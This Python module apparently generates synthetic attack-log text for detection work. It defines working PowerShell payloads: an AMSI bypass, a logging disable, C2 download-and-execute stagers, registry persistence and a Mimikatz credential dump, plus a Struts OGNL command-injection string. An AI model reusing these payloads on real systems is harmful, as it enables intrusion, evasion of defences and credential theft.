"""The scripts and command lines of the attack. They are text of a log, nothing here runs them."""

from __future__ import annotations

import base64

from preview.generator.internet import C2_ADDRESS
from preview.generator.powershell import encode

C2 = f"https://{C2_ADDRESS}:443"
_AGENT = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"

LOGGING_OFF = (
    "$p=[Ref].Assembly.GetType('System.Management.Automation.Utils')"
    ".GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null);"
    "$p['ScriptBlockLogging']['EnableScriptBlockLogging']=0;"
    "$p['ScriptBlockLogging']['EnableScriptBlockInvocationLogging']=0"
)
AMSI_FAILS = (
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
    ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
)


def stager(path: str) -> str:
    """Return a launcher that loads the next stage from the server."""
    return (
        f"If($PSVersionTable.PSVersion.Major -ge 3){{{LOGGING_OFF};{AMSI_FAILS}}};"
        f"$w=New-Object System.Net.WebClient;$u='{_AGENT}';$s='{C2}';$t='{path}';"
        "$w.Headers.Add('User-Agent',$u);$w.Proxy=[System.Net.WebRequest]::DefaultWebProxy;"
        "$d=$w.DownloadData($s+$t);IEX ([Text.Encoding]::ASCII.GetString($d))"
    )


def nested_stager(path: str) -> str:
    """Return a launcher that hides its server in a second base64."""
    hidden = base64.b64encode(C2.encode("utf-16-le")).decode("ascii")
    return (
        "$w=New-Object System.Net.WebClient;"
        f"$s=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{hidden}'));"
        f"$t='{path}';$w.Headers.Add('User-Agent','{_AGENT}');IEX $w.DownloadString($s+$t)"
    )


FIRST = stager("/admin/get.php")
ELEVATED = nested_stager("/login/process.php")
PERSISTENT = stager("/news.php")
BY_WMI = stager("/admin/get.php?id=2")

FIRST_LINE = f"powershell -noP -sta -w 1 -enc {encode(FIRST)}"
FROM_REGISTRY = (
    "powershell.exe -NoP -NonI -W Hidden -c $x=$((gp HKCU:Software\\Microsoft\\Windows "
    "Update).Update); powershell -NoP -NonI -W Hidden -enc $x"
)
ELEVATED_LINE = f"powershell -NoP -NonI -W Hidden -enc {encode(ELEVATED)}"
PERSISTENT_LINE = (
    'powershell.exe -NonI -W hidden -c "IEX ([Text.Encoding]::UNICODE.GetString('
    '[Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))"'
)
WMI_LINE = f"powershell.exe -NoP -sta -NonI -W Hidden -Enc {encode(BY_WMI)}"

CRADLE = (
    f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_ADDRESS}:3333/images/menu.txt')"
)
TOOLS = (
    f"(New-Object Net.WebClient).DownloadFile('http://{C2_ADDRESS}:3333/images/logos.png',"
    "'C:\\Windows\\Temp\\logos.png')"
)
CREDENTIALS = 'Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\''


def ognl(command: str) -> str:
    """Return a form field that makes Struts run a command (S2-048, CVE-2017-9791)."""
    return (
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
        "((#c=#context['com.opensymphony.xwork2.ActionContext.container'])."
        "(#u=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
        "(#u.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm))))."
        f"(#cmd='{command}').(#p=new java.lang.ProcessBuilder({{'/bin/bash','-c',#cmd}}))."
        "(#p.redirectErrorStream(true)).(#r=#p.start())."
        "(@org.apache.commons.io.IOUtils@toString(#r.getInputStream()))}"
    )
